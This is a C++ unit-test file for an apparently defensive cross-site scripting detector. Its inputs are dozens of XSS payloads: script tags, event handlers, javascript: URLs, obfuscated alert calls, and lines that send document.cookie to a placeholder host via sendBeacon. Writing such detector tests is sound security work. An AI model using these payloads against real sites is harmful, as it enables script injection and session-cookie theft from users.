#include <gtest/gtest.h>

#include "inspect/attack/testing.h"

namespace firebreak::inspect {
namespace {

TEST(Markup, FindsScriptElements) {
  for (const char* const text : {
           "<script>x</script>",
           "<SCRIPT SRC=//h/x.js>",
           R"~("><script/x>)~",
           "<svg:script>",
           "</script>",
           "<script\n>",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptTag, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Markup, FindsEventHandlers) {
  for (const char* const text : {
           "<img src=x onerror=go()>",
           "<b onmouseover='x'>",
           "<svg/onload=x>",
           "<p\tonfocus\t=\tx tabindex=1>",
           "<zz onclick=1>",
           R"~(<img src="q"onload="x">)~",
           "<svg </onload =x>",
           "<body onpageshow=x",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptHandler, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Markup, FindsScriptUrls) {
  for (const char* const text : {
           "<a href=javascript:go()>",
           "<a href=' java\tscript:go()'>",
           "javascript:go(1)",
           "<iframe src=data:text/html,<b>>",
           "<form action=vbscript:go(1)>",
           "';javascript:go(1)",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptUrl, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Markup, FindsElementsThatLoad) {
  for (const char* const text : {
           "<iframe src=//h>",
           "<object data=x>",
           "<embed src=x>",
           "<base href=//h/>",
           "<meta http-equiv=refresh content=0>",
           "<iframe srcdoc='x'>",
           "<link rel=x href=y>",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptActiveTag, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Markup, FindsHandlersForSomebodyElsesElement) {
  for (const char* const text : {
           R"~(" onmouseover=x)~",
           "' onfocus='x",
           "x onclick=go(1)",
           R"~("/onload=go`1`)~",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptAttribute, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Markup, FindsStylesThatRun) {
  for (const char* const text : {
           R"~(<b style="width:expression(x)">)~",
           "<style>@import '//h'</style>",
           R"~(" style="x:expression(1))~",
           "<p style='behavior:url(x)'>",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptStyle, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Markup, FindsWhatLeavesAString) {
  for (const char* const text : {
           "';alert(1)//",
           R"~("-confirm(9)-")~",
           "'});prompt('x');//",
           "`+eval('x')+`",
           R"~(");document.write('x')//)~",
           "alert(document.cookie)",
           "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]+(![]+[])]",
           "alert`1`",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptBreakout, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Markup, LeavesMarkupAndTalkOfScriptAlone) {
  for (const char* const text : {
           "<b>bold</b>",
           "<p>a <i>b</i> c</p>",
           R"~(<a href="https://example.org/">x</a>)~",
           R"~(<img src="a.png" alt="b">)~",
           "a < b and b > c",
           "<3 you",
           "List<Object> items",
           "x<y",
           "the onclick handler",
           "on = off",
           "turn it on=1",
           "javascript: the good parts",
           "javascript:void(0)",
           "javascript:;",
           "confirm(s) the order",
           "alert (the guard)",
           "fetch the ball",
           "a (prompt) answer",
           "function (of time)",
           "how to use alert('x') in js",
           "data:image/png;base64,iVBORw0K",
           "conclusion=5",
           "button onclick",
           "Tom & Jerry <tom@example.org>",
           "<type enter here>",
       }) {
    EXPECT_LT(ScoreOf(text), kCritical) << text << ": " << RulesOf(text);
  }
}

TEST(Markup, FindsWhatIsMadeToFit) {
  for (const char* const text : {
           "';go(1)//",
           "'-go(1)-'",
           R"~("});x=1;//)~",
           "';import('//h')//",
           "';[1].find(go);//",
           "';onerror=go;THROW 1;//",
           "';it=1;do{x()}while(1);'",
           "window.alert(1)",
           "x='//h/'+document.cookie",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptBreakout, text)) << text << ": " << RulesOf(text);
  }
  for (const char* const text : {
           R"~(" onnewevent=go(1) x=)~",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptAttribute, text)) << text << ": " << RulesOf(text);
  }
  for (const char* const text : {
           "[x](data:text/html;base64,AAAA)",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptUrl, text)) << text << ": " << RulesOf(text);
  }
  for (const char* const text : {
           "<meta http-equiv=refresh content=1>",
           "<meta content='0;url=x'>",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptActiveTag, text)) << text << ": " << RulesOf(text);
  }
}

TEST(Markup, LeavesCodeAndReportsOfErrorsAlone) {
  for (const char* const text : {
           "at new Promise (<anonymous>)\n at document.write (native)",
           "Unexpected token '<' at <anonymous>: window.location is null",
           "x = 'a'; document.write('b')",
           "','.join(a)+','",
           "'-'.join(a)+'-'",
           "def main():\n    print('x')",
           R"~(<meta name="viewport" content="width=1">)~",
           R"~(<meta http-equiv="Content-Type" content="text/html">)~",
           "it's; see (that)",
       }) {
    EXPECT_LT(ScoreOf(text), kCritical) << text << ": " << RulesOf(text);
  }
}

TEST(Markup, FindsScriptThatIsAllThereIs) {
  for (const absl::string_view text : {
           R"~(top["al"+"ert"](1))~",
           "top[/al/.source+/ert/.source](1)",
           "alert.call(null,1)",
           "Reflect.apply(alert,null,[1])",
           "[1].find(alert)",
           "onerror=alert;throw 1",
           "throw onerror=alert,1",
           "a=alert,a(1)",
           "Function('alert(1)')()",
           "[]['constructor']['constructor']('x')()",
           "import('//h/x.js')",
           "$.getScript('//h/x.js')",
           "navigator.sendBeacon('//h',document.cookie)",
           "with(document)body.appendChild(x)",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptBreakout, text)) << text << ": " << RulesOf(text);
  }
  for (const absl::string_view text : {
           "+ADw-script+AD4-",
           "<![CDATA[<]]>script",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptTag, text)) << text << ": " << RulesOf(text);
  }
  for (const absl::string_view text : {
           "<?import namespace='x' implementation='//h'>",
           "<b datasrc=#i dataformatas=html>",
       }) {
    EXPECT_TRUE(Finds(Rule::kScriptActiveTag, text)) << text << ": " << RulesOf(text);
  }
  for (const absl::string_view text : {
           "map(alert) calls alert for each",
           "type=alert;level=2",
           "function('x')",
           "import('lodash')",
           "set document.cookie, then go",
           "window[0] is the first frame",
           "users.find(byName)",
           "status.alert.call center",
       }) {
    EXPECT_LT(ScoreOf(text), kCritical) << text << ": " << RulesOf(text);
  }
}

}  // namespace
}  // namespace firebreak::inspect
